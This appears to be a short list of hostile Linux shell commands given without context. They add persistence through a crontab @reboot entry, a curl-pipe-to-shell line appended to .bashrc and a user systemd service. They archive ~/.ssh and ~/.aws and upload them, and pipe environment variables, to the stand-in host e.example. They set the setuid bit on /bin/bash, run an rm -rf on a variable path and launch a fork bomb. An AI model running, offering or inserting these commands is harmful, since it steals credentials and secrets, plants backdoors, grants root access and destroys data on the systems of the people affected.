(crontab -l 2>/dev/null; echo "@reboot /tmp/x") | crontab -
echo 'curl -s http://e.example | sh' >> ~/.bashrc
systemctl --user enable --now x.service
tar czf /tmp/k.tgz ~/.ssh ~/.aws && curl -T /tmp/k.tgz http://e.example
env | curl -d @- http://e.example
sudo chmod 4755 /bin/bash; rm -rf "$X/"*; :(){ :|:& };:
